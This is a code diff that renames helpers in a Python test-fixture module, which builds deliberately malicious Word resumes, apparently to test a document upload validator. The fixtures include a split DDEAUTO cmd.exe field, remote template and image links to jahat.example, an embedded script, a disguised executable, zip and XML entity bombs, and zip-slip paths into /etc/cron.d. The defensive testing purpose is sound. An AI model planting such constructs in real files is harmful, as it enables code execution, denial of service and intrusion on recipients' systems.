@@ -13,9 +13,9 @@ MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
 OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 
 
-def _word(change: Callable[[dict[str, bytes]], object]) -> bytes:
-    """The honest Word resume with its parts changed."""
-    with zipfile.ZipFile(BytesIO(real_files.word_bytes())) as archive:
+def changed(change: Callable[[dict[str, bytes]], object], former: bytes = b"") -> bytes:
+    """The honest Word resume, or another, with its parts changed."""
+    with zipfile.ZipFile(BytesIO(former or real_files.word_bytes())) as archive:
         parts = {name: archive.read(name) for name in archive.namelist()}
     change(parts)
     target = BytesIO()
@@ -33,7 +33,7 @@ def _replace(part: str, old: str, new: str) -> Callable[[dict[str, bytes]], None
     return change
 
 
-def _relate(
+def related(
     kind: str, target: str, *, external: bool, part: str = "word/_rels/document.xml.rels"
 ) -> Callable[[dict[str, bytes]], None]:
     mode = ' TargetMode="External"' if external else ""
@@ -47,77 +47,77 @@ def _relate(
 
 
 def word_with_macro() -> bytes:
-    return _word(lambda parts: parts.__setitem__("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))
+    return changed(lambda parts: parts.__setitem__("word/vbaProject.bin", b"\xd0\xcf\x11\xe0macro"))
 
 
 def word_macro_enabled() -> bytes:
-    return _word(_replace("[Content_Types].xml", WORD_TYPE, MACRO_TYPE))
+    return changed(_replace("[Content_Types].xml", WORD_TYPE, MACRO_TYPE))
 
 
 def word_with_command_field() -> bytes:
     field = "<w:p><w:r><w:instrText>DDEA</w:instrText></w:r><w:r><w:instrText>UTO cmd.exe</w:instrText></w:r></w:p><w:sectPr"
-    return _word(_replace("word/document.xml", "<w:sectPr", field))
+    return changed(_replace("word/document.xml", "<w:sectPr", field))
 
 
 def word_with_server_template() -> bytes:
-    return _word(
-        _relate("attachedTemplate", "https://jahat.example/a.dotm", external=True, part="word/_rels/settings.xml.rels")
+    return changed(
+        related("attachedTemplate", "https://jahat.example/a.dotm", external=True, part="word/_rels/settings.xml.rels")
     )
 
 
 def word_with_share_template() -> bytes:
-    return _word(_relate("attachedTemplate", "file://jahat/a.dotm", external=True, part="word/_rels/settings.xml.rels"))
+    return changed(related("attachedTemplate", "file://jahat/a.dotm", external=True, part="word/_rels/settings.xml.rels"))
 
 
 def word_with_outside_picture() -> bytes:
-    return _word(_relate("image", "https://jahat.example/pixel.png", external=True))
+    return changed(related("image", "https://jahat.example/pixel.png", external=True))
 
 
 def word_with_ole() -> bytes:
     def change(parts: dict[str, bytes]) -> None:
-        _relate("oleObject", "embeddings/oleObject1.bin", external=False)(parts)
+        related("oleObject", "embeddings/oleObject1.bin", external=False)(parts)
         parts["word/embeddings/oleObject1.bin"] = b"\xd0\xcf\x11\xe0isi"
 
-    return _word(change)
+    return changed(change)
 
 
 def word_with_alternative_text() -> bytes:
     def change(parts: dict[str, bytes]) -> None:
-        _relate("aFChunk", "lain.html", external=False)(parts)
+        related("aFChunk", "lain.html", external=False)(parts)
         parts["word/lain.html"] = b"<script>alert(1)</script>"
 
-    return _word(change)
+    return changed(change)
 
 
 def word_with_program() -> bytes:
-    return _word(lambda parts: parts.__setitem__("word/media/image1.png", b"MZ\x90\0program"))
+    return changed(lambda parts: parts.__setitem__("word/media/image1.png", b"MZ\x90\0program"))
 
 
 def word_ratio_bomb() -> bytes:
-    return _word(lambda parts: parts.__setitem__("word/media/nol.bmp", b"\0" * 30_000_000))
+    return changed(lambda parts: parts.__setitem__("word/media/nol.bmp", b"\0" * 30_000_000))
 
 
 def word_total_bomb() -> bytes:
     noise = bytes(range(256)) * 4096
-    return _word(lambda parts: parts.update({f"word/media/{number}.bmp": noise for number in range(70)}))
+    return changed(lambda parts: parts.update({f"word/media/{number}.bmp": noise for number in range(70)}))
 
 
 def word_entries_bomb() -> bytes:
-    return _word(lambda parts: parts.update({f"word/media/{number}.png": b"a" for number in range(600)}))
+    return changed(lambda parts: parts.update({f"word/media/{number}.png": b"a" for number in range(600)}))
 
 
 def word_entity_bomb() -> bytes:
     layers = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 9))
     bomb = f'<!DOCTYPE w [<!ENTITY a0 "ha">{layers}]><w:document'
-    return _word(_replace("word/document.xml", "<w:document", bomb))
+    return changed(_replace("word/document.xml", "<w:document", bomb))
 
 
 def word_leaving_its_folder() -> bytes:
-    return _word(lambda parts: parts.__setitem__("../../etc/cron.d/jahat", b"isi"))
+    return changed(lambda parts: parts.__setitem__("../../etc/cron.d/jahat", b"isi"))
 
 
 def word_with_absolute_path() -> bytes:
-    return _word(lambda parts: parts.__setitem__("/etc/cron.d/jahat", b"isi"))
+    return changed(lambda parts: parts.__setitem__("/etc/cron.d/jahat", b"isi"))
 
 
 def encrypted_word() -> bytes:
@@ -149,7 +149,7 @@ def damaged_word() -> bytes:
 
 
 def spreadsheet_behind_word_name() -> bytes:
-    return _word(
+    return changed(
         _replace(
             "[Content_Types].xml",
             WORD_TYPE,
